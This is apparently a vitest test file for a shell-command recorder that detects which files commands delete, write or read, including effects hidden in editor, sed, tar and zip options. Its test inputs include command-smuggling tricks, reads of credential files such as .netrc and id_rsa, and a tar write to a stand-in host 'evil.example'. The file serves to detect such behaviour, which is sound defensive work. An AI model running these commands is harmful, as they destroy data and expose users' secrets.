import { describe, expect, test } from 'vitest'
import { blankView } from '../../workspace.ts'
import { newRecorder } from '../recorder.ts'
import { follow, recordScript } from '../script.ts'

const recorded = (text: string) => {
  const recorder = newRecorder(blankView({ workingDirectory: '/h/p', home: '/h' }), follow)
  recordScript(text, '/h/p', recorder)
  const files = recorder
    .actions()
    .flatMap((one) => ('path' in one ? [`${one.kind.slice(5)} ${one.path}`] : []))
  return { files: [...new Set(files)], unread: recorder.opaque().map(({ code }) => code) }
}

describe('editors run what they are told to', () => {
  test.each([
    ["vim -c '!rm x' -c q", ['delete /h/p/x']],
    ["vim +'silent !rm x' +qa", ['delete /h/p/x']],
    ["vim -es -c '%!rm x'", ['delete /h/p/x']],
    ['vim -c \'call system("rm x")\'', ['delete /h/p/x']],
    ['nvim --headless -c \'lua os.remove("/x")\'', ['delete /x']],
    ['vim -c \'call delete("/x", "rf")\'', ['delete /x']],
    ["ex -s -c 'w /x' f", ['write /h/p/f', 'write /x']],
    ["ex -s f <<< '!rm x'", ['write /h/p/f', 'delete /h/p/x']],
    ["ed <<< '!rm x'", ['delete /h/p/x']],
    [
      "ed -s f <<'END'\n1,$s/a/b/g\nr /h/.netrc\nw /x\nq\nEND",
      ['write /h/p/f', 'read /h/.netrc', 'write /x'],
    ],
    ["ed -s f <<'END'\na\n!rm x\n.\nw\nEND", ['write /h/p/f']],
    ['emacs --batch --eval \'(shell-command "rm x")\'', ['delete /h/p/x']],
    ['emacs --batch --eval \'(delete-directory "/x" t)\'', ['delete /x']],
    ['emacs --batch --eval \'(call-process "rm" nil nil nil "x")\'', ['delete /h/p/x']],
    ["sed '1e rm x' f", ['read /h/p/f', 'delete /h/p/x']],
    ["sed 's/.*/rm x/e' f", ['read /h/p/f', 'delete /h/p/x']],
    ["sed -f - f <<< 'w /x'", ['read /h/p/f', 'write /x']],
    ["gawk -i inplace '{print}' f", ['write /h/p/f']],
  ])('%s', (text, expected) => {
    expect(recorded(text)).toEqual({ files: expected, unread: [] })
  })

  test.each([
    "vim -es -c '%s/foo/bar/ge' -c wq f",
    'vim +10 f',
    "printf '%s\\n' 1d w q | ed -s f",
    'emacs --batch f --eval \'(message "hi")\'',
  ])('%s only edits', (text) => {
    expect(recorded(text)).toEqual({ files: ['write /h/p/f'], unread: [] })
  })

  test.each([
    'cat x | ed',
    "emacs --batch --eval '(eval (read (current-buffer)))'",
    "vim -c 'exe system(x)'",
  ])('%s cannot be read', (text) => {
    expect(recorded(text).unread).not.toEqual([])
  })
})

describe('archives run, write and send', () => {
  test.each([
    ["tar -cI 'rm x' -f -", ['delete /h/p/x']],
    ["tar cIf 'rm x' a.tar b", ['delete /h/p/x', 'read /h/p/b', 'write /h/p/a.tar']],
    ["tar -F 'rm x' -M -xf a.tar", ['delete /h/p/x', 'read /h/p/a.tar', 'write /h/p']],
    ["tar xf a.tar --to-command='rm x'", ['delete /h/p/x', 'read /h/p/a.tar']],
    [
      "tar cf a.tar --checkpoint=1 --checkpoint-action=exec='rm x' b",
      ['delete /h/p/x', 'read /h/p/b', 'write /h/p/a.tar'],
    ],
    ['tar xzf a.tgz -C /tmp/x', ['read /h/p/a.tgz', 'write /tmp/x']],
    ['tar Pxf a.tar --xform s@.*@/x@', ['read /h/p/a.tar', 'write /h/p', 'write /x']],
    ['tar cf evil.example:/x b', ['read /h/p/b']],
    ["zip -T -TT 'rm x' a.zip b", ['delete /h/p/x', 'write /h/p/a.zip']],
    ['7z a -sdel a.7z b', ['write /h/p/a.7z', 'read /h/p/b', 'delete /h/p/b']],
    ['echo /h/.netrc | cpio -o', ['read /h/.netrc']],
    ['fd . /x -x rm', ['delete /x/**']],
    ['find / -name id_rsa -exec cat {} +', ['read /**/id_rsa']],
    ['locate id_rsa | xargs cat', ['read /**/id_rsa']],
    ['script -q /dev/null rm x', ['delete /h/p/x']],
    ['mv x /dev/null', ['delete /h/p/x']],
    ['chattr -i /etc/passwd', ['chmod /etc/passwd']],
    ['od -c f', ['read /h/p/f']],
    ['shuf -e A -o /x', ['write /x']],
    ['xxd -r - /x', ['write /x']],
    ['unfamiliar a -o /x', ['write /x']],
  ])('%s', (text, expected) => {
    for (const one of expected) expect(recorded(text).files).toContain(one)
  })

  test.each([
    'eval "$(direnv hook bash)"',
    'source ~/.bashrc',
    'source <(kubectl completion bash)',
    'ls -t | head -1 | xargs cat',
  ])('%s hides nothing', (text) => {
    expect(recorded(text).unread).toEqual([])
  })
})
